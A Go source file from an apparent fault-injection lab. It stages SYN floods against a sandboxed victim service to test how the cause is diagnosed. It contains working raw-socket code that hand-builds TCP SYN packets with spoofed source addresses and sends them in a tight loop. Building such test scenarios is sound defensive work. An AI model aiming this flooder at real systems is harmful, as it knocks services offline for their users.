package faults

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"strconv"
	"time"

	"freezeframe/lab"
	"freezeframe/lab/victim"

	"golang.org/x/sys/unix"
)

var netSYNFlood = []lab.Fault{
	{
		Name:      "net.syn_flood/spoofed",
		Cause:     "net.syn_flood",
		About:     "SYNs from made-up addresses fill the SYN queue of 64 of a threaded Python service (SYN cookies off); new connections wait for their second SYN",
		MissAbout: "10 SYNs a second",
		Needs:     needs(root, program("ip", "python3")),
		Shortest:  1500 * time.Millisecond,
		Run:       func(s *lab.Scene) { flood(s, 20*time.Microsecond) },
		Miss:      func(s *lab.Scene) { flood(s, 100*time.Millisecond) },
		Roles:     map[string]func([]string){"synflood": synFlooder},
	},
	{
		Name:      "net.syn_flood/one-source",
		Cause:     "net.syn_flood",
		About:     "SYNs from one address that never answers fill the SYN queue of 64 (somaxconn) of a Go service, SYN cookies off; new connections wait for their second SYN",
		MissAbout: "10 SYNs a second",
		Needs:     needs(root, program("ip")),
		Shortest:  1500 * time.Millisecond,
		Run:       func(s *lab.Scene) { floodFromOne(s, 50*time.Microsecond) },
		Miss:      func(s *lab.Scene) { floodFromOne(s, 100*time.Millisecond) },
	},
}

func flood(s *lab.Scene, every time.Duration) {
	ns := s.Netns()
	s.Sysctl("/proc/sys/net/ipv4/tcp_syncookies", "0")
	svc := s.Serve(victim.Spec{Kind: victim.Threads, Backlog: 64, Host: ns.HostIP, Fresh: true}, lab.Place{})
	svc.UsersIn(ns)
	job := s.Start(lab.Cmd{Name: "flood", Role: "synflood", Args: []string{svc.Address, every.String()}, Place: lab.Place{Netns: ns.Name}})
	s.BlameGroup(job)
	// That the senders are many is all there is to say of made-up addresses.
	s.Blame(lab.Guilty{Addresses: append([]string{"many senders"}, spoofed...), Interfaces: []string{ns.HostLink}})
	s.Watch(svc)
	s.Break(saying(s, "go", job), killing(s, job))
}

// spoofed are the made-up sources: nobody there answers, and nobody resets.
var spoofed = func() (all []string) {
	for i := range 250 {
		all = append(all, fmt.Sprintf("198.51.100.%d", i+1))
	}
	return all
}()

// synFlooder sends SYNs when told to go.
func synFlooder(args []string) {
	host, portText, _ := net.SplitHostPort(args[0])
	port, _ := strconv.Atoi(portText)
	every, _ := time.ParseDuration(args[1])
	sources := spoofed
	if len(args) > 2 {
		sources = args[2:]
	}
	dst := [4]byte(net.ParseIP(host).To4())
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		fmt.Fprintln(os.Stderr, "raw socket:", err)
		os.Exit(1)
	}
	lab.Listen("", func(string) {
		go func() {
			for {
				src := [4]byte(net.ParseIP(sources[rand.IntN(len(sources))]).To4())
				_ = unix.Sendto(fd, syn(src, dst, uint16(1024+rand.IntN(60000)), uint16(port)), 0, &unix.SockaddrInet4{Addr: dst})
				time.Sleep(every)
			}
		}()
	})
}

// syn returns an IPv4 packet that asks for a connection.
func syn(src, dst [4]byte, sport, dport uint16) []byte {
	p := make([]byte, 40)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(p[2:], 40)
	copy(p[12:], src[:])
	copy(p[16:], dst[:])
	tcp := p[20:]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], rand.Uint32())
	tcp[12], tcp[13] = 5<<4, 0x02
	binary.BigEndian.PutUint16(tcp[14:], 65535)
	sum := uint32(unix.IPPROTO_TCP) + 20
	for _, b := range [][]byte{src[:], dst[:], tcp} {
		for i := 0; i < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
	return p
}

func floodFromOne(s *lab.Scene, every time.Duration) {
	ns := s.Netns()
	s.Sysctl("/proc/sys/net/ipv4/tcp_syncookies", "0")
	s.Sysctl("/proc/sys/net/core/somaxconn", "64")
	svc := s.Serve(victim.Spec{Name: "orders", Kind: victim.Go, Host: ns.HostIP, Fresh: true}, lab.Place{})
	svc.UsersIn(ns)
	job := s.Start(lab.Cmd{Name: "flood", Role: "synflood", Args: []string{svc.Address, every.String(), spoofed[0]}, Place: lab.Place{Netns: ns.Name}})
	s.BlameGroup(job)
	s.Blame(lab.Guilty{Addresses: []string{spoofed[0]}, Interfaces: []string{ns.HostLink}})
	s.Watch(svc)
	s.Break(saying(s, "go", job), killing(s, job))
}
